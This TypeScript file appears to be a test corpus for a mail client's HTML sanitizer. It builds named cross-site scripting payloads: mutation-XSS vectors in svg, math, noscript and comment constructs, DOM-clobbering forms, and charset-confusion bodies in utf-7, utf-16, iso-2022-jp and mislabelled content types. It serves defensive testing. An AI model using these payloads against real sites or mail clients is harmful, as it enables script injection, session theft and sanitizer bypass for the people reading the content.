import type { Attack, Table } from './attack.ts';

/* What is harmless when it is read once, and something else when it is written and read again; names that hide what a page
 * has of its own; and what is no mail at all. Many are of the public collections of such texts. */

const mutation: Table = [
  ['noscript in an attribute', ({ js }) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`],
  ['style in svg', ({ js }) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`],
  ['style in math', ({ js }) => `<math><style><img src=x onerror=${js}></style></math>`],
  ['mglyph and style', ({ js }) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`],
  ['mglyph in a table', ({ js }) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`],
  ['malignmark', ({ js }) => `<math><mtext><table><malignmark><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`],
  [
    'annotation-xml',
    ({ js }) => `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${js}></style></annotation-xml></math>`,
  ],
  [
    'annotation-xml, other encoding',
    ({ js }) =>
      `<math><annotation-xml encoding="application/xhtml+xml"><svg><style><img src=x onerror=${js}></style></svg></annotation-xml></math>`,
  ],
  [
    'foreign object and math',
    ({ js }) => `<svg><foreignObject><math><mi><style><img src=x onerror=${js}></style></mi></math></foreignObject></svg>`,
  ],
  ['desc in svg', ({ js }) => `<svg><desc><style><img src=x onerror=${js}></style></desc></svg>`],
  ['title in svg', ({ js }) => `<svg><title><style><img title="</style><img src=x onerror=${js}>"></style></title></svg>`],
  ['comment in title', ({ js }) => `<svg><title><!--</title><img src=x onerror=${js}>--></svg>`],
  ['nested forms', ({ js }) => `<form><div></form><form><svg><style></form><img src=x onerror=${js}></style></svg>`],
  ['nested tables', ({ js }) => `<table><td><svg><p><style><!--</style><img title="--><img src=x onerror=${js}>"></table>`],
  ['select in a table', ({ js }) => `<select><table><style><img src=x onerror=${js}></style></table></select>`],
  ['textarea', ({ js }) => `<textarea><img title="</textarea><img src=x onerror=${js}>"></textarea>`],
  ['title', ({ js }) => `<title><img title="</title><img src=x onerror=${js}>"></title>`],
  ['xmp', ({ js }) => `<xmp><p title="</xmp><img src=x onerror=${js}>"></xmp>`],
  ['noembed', ({ js }) => `<noembed><p title="</noembed><img src=x onerror=${js}>"></noembed>`],
  ['noframes', ({ js }) => `<noframes><p title="</noframes><img src=x onerror=${js}>"></noframes>`],
  ['iframe with text', ({ js }) => `<iframe><p title="</iframe><img src=x onerror=${js}>"></iframe>`],
  ['plaintext', ({ js }) => `<p><plaintext><img src=x onerror=${js}>`],
  ['listing', ({ js }) => `<listing>&lt;img src=x onerror=${js}&gt;</listing>`],
  [
    'template in template',
    ({ js }) => `<template><template><p title="</template></template><img src=x onerror=${js}>"></template></template>`,
  ],
  ['comment that ends early', ({ js }) => `<!--><img src=x onerror=${js}>-->`],
  ['comment with a bang', ({ js }) => `<!-- --!><img src=x onerror=${js}>-->`],
  ['comment within comment', ({ js }) => `<!-- <!-- --><img src=x onerror=${js}> -->`],
  ['comment of a question mark', ({ js }) => `<?x ><img src=x onerror=${js}>?>`],
  ['cdata', ({ js }) => `<![CDATA[<img src=x onerror=${js}>]]>`],
  ['cdata in svg', ({ js }) => `<svg><![CDATA[><img src=x onerror=${js}>]]></svg>`],
  ['cdata in math', ({ js }) => `<math><mi><![CDATA[</mi></math><img src=x onerror=${js}>]]></mi></math>`],
  ['declaration', ({ js }) => `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${js}>">]>&y;`],
  ['end tag with attributes', ({ js }) => `</p onmouseover=${js}><img/ src=x ""onerror=${js}>`],
  ['attribute name with a tag', ({ js }) => `<p <img src=x onerror=${js}>=1>x`],
  ['attribute with an equals sign', ({ js }) => `<img =onerror src=x onerror=${js}>`],
  ['attribute with a quote', ({ js }) => `<img alt='"><img src=x onerror=${js}>' title="'><img src=x onerror=${js}>">`],
  ['backticks', ({ js }) => `<p title=\`\`onmouseover=${js}><img alt="\`><img src=x onerror=${js}>">`],
  ['nul in an attribute', ({ js }) => `<img src=x one\0rror=${js} onerror\0=${js}>`],
  ['unusual blanks', ({ js }) => `<img\u00a0src=x\u2028onerror=${js}><img\u000bsrc=x onerror=${js}>`],
  ['a tag in a tag', ({ js }) => `<<img src=x onerror=${js}>><<<script>${js}</script>`],
  ['a tag without an end', ({ js }) => `<p>x<img src=x onerror=${js} `],
  ['deeply nested', ({ js }) => `${'<div>'.repeat(600)}<svg><style><img src=x onerror=${js}></style>${'</div>'.repeat(600)}`],
  ['deeply nested formatting', ({ js }) => `${'<b><p>'.repeat(120)}<math><style><img src=x onerror=${js}>`],
  ['many attributes', ({ js }) => `<img ${Array.from({ length: 500 }, (_, n) => `a${n}=x`).join(' ')} src=x onerror=${js}>`],
  ['a long text before', ({ js }) => `${'x'.repeat(70_000)}<img src=x onerror=${js}>`],
  ['is and own elements', ({ js }) => `<p is=x-y onload=${js}>x</p><x-y onload=${js}><img src=x onerror=${js}></x-y>`],
  ['namespaces', ({ js }) => `<html:img xmlns:html="http://www.w3.org/1999/xhtml" src="x" onerror="${js}"/><svg:svg onload="${js}"/>`],
  ['svg link', ({ js }) => `<svg><a href="javascript:${js}"><text y=20>x</text></a></svg>`],
  ['svg animated link', ({ js }) => `<svg><a><animate attributeName=href values="javascript:${js}"/><text y=20>x</text></a></svg>`],
  [
    'svg use of data',
    ({ js }) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${js}</script></svg>#x"/></svg>`,
  ],
  ['svg handler', ({ js }) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${js}</handler></svg>`],
  [
    'math link',
    ({ js }) =>
      `<math><maction actiontype="statusline" xlink:href="javascript:${js}">x</maction></math><math href="javascript:${js}">y</math>`,
  ],
  ['frame with a page', ({ js }) => `<iframe srcdoc="<script>${js}</script>"></iframe>`],
  ['frame with a page, references', ({ js }) => `<iframe srcdoc="&lt;img src=x onerror=${js}&gt;"></iframe>`],
  [
    'frame that lifts its own walls',
    ({ js }) => `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>${js}</script>"></iframe>`,
  ],
  ['frame of this mail', ({ js }) => `<iframe src="./"></iframe><iframe src="link/0"></iframe><iframe src="part/0" onload=${js}></iframe>`],
  ['frame of the window', ({ js }) => `<iframe src="app://restante/index.html" onload=${js}></iframe>`],
  ['object with a page', ({ js }) => `<object data="data:text/html,<script>${js}</script>" type="text/html"></object>`],
  [
    'embed with a page',
    ({ js }) => `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${js}</script></svg>">`,
  ],
  ['nested objects', ({ js }) => `<object><object><img src=x onerror=${js}></object></object>`],
  ['charset in a meta', ({ js }) => `<meta charset="utf-7">+ADw-script+AD4-${js}+ADw-/script+AD4-`],
  [
    'policy of the mail',
    ({ js }) => `<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'"><script>${js}</script>`,
  ],
];

const clobbering: Table = [
  ['attributes', ({ js }) => `<form><input name=attributes><input name=attributes><img src=x onerror=${js}></form>`],
  ['nodeName', ({ js }) => `<form onclick=${js}><input name=nodeName><input name=parentNode></form>`],
  ['childNodes', ({ js }) => `<form><input name=childNodes><input name=firstChild><img src=x onerror=${js}></form>`],
  ['removeAttribute', ({ js }) => `<form onfocus=${js} tabindex=1 autofocus><input name=removeAttribute><input name=setAttribute></form>`],
  [
    'body and documentElement',
    ({ js }) => `<img name=body><img name=documentElement><form name=implementation></form><img src=x onerror=${js}>`,
  ],
  ['querySelectorAll', ({ js }) => `<form name=querySelectorAll><input id=cookie></form><img name=createElement src=x onerror=${js}>`],
  ['window names', ({ js }) => `<a id=restante></a><a id=restante name=call href="javascript:${js}">x</a><iframe name=restante></iframe>`],
  ['content', ({ js }) => `<form id=f><template><img src=x onerror=${js}></template><input name=content></form>`],
];

const html: Table = [...mutation, ...clobbering];
export const confusions = html;

/** Texts whose bytes mean something else in another charset. */
export const charsets = (js: string): Attack[] => {
  const tag = `<script>${js}</script>`;
  const seven = '+ADw-script+AD4-'.concat(js, '+ADw-/script+AD4-');
  const wide = (text: string): Uint8Array => Buffer.from(text, 'utf16le');
  const cases: readonly (readonly [string, string, string | Uint8Array])[] = [
    ['utf-7', 'text/html; charset=utf-7', seven],
    ['utf-7 without a charset', 'text/html', seven],
    ['utf-7 with its mark', 'text/html', `+/v8-${seven}`],
    ['utf-16', 'text/html; charset=utf-16', wide(`\ufeff${tag}`)],
    ['utf-16 without a charset', 'text/html', wide(`\ufeff${tag}`)],
    ['iso-2022-jp', 'text/html; charset=iso-2022-jp', `<p title="\x1b$B$3\x1b(B"><img alt="\x1b(J\\"><img src=x onerror=${js}>">`],
    ['iso-2022-jp escapes without a charset', 'text/html', `<img alt="\x1b$B$3" title="\x1b(B><img src=x onerror=${js}>">`],
    ['iso-2022-kr', 'text/html; charset=iso-2022-kr', `\x1b$)C\x0e${tag}\x0f`],
    ['hz', 'text/html; charset=hz-gb-2312', `~{${tag}~}`],
    [
      'shift_jis',
      'text/html; charset=shift_jis',
      Buffer.concat([Buffer.from('<img alt="'), Buffer.of(0x82), Buffer.from(`"><img src=x onerror=${js}>`)]),
    ],
    [
      'euc-jp',
      'text/html; charset=euc-jp',
      Buffer.concat([Buffer.from('<img alt="'), Buffer.of(0x8f), Buffer.from(`"><img src=x onerror=${js}>`)]),
    ],
    [
      'gb18030',
      'text/html; charset=gb18030',
      Buffer.concat([Buffer.from('<img alt="'), Buffer.of(0x81), Buffer.from(`"><img src=x onerror=${js}>`)]),
    ],
    [
      'overlong utf-8',
      'text/html; charset=utf-8',
      Buffer.concat([Buffer.of(0xc0, 0xbc), Buffer.from(`script`), Buffer.of(0xc0, 0xbe), Buffer.from(js)]),
    ],
    ['x-user-defined', 'text/html; charset=x-user-defined', tag],
    ['no such charset', `text/html; charset="><script>${js}</script>`, tag],
    ['xhtml', 'application/xhtml+xml', `<html xmlns="http://www.w3.org/1999/xhtml"><script>${js}</script></html>`],
    ['svg', 'image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`],
    ['text that is a page', 'text/plain', tag],
    ['text of an unknown kind', 'text/x-html', tag],
    ['picture that is a page', 'image/png', tag],
    ['PDF that is a page', 'application/pdf', tag],
  ];
  return cases.map(([name, type, body]) => ({ name, type, body }));
};
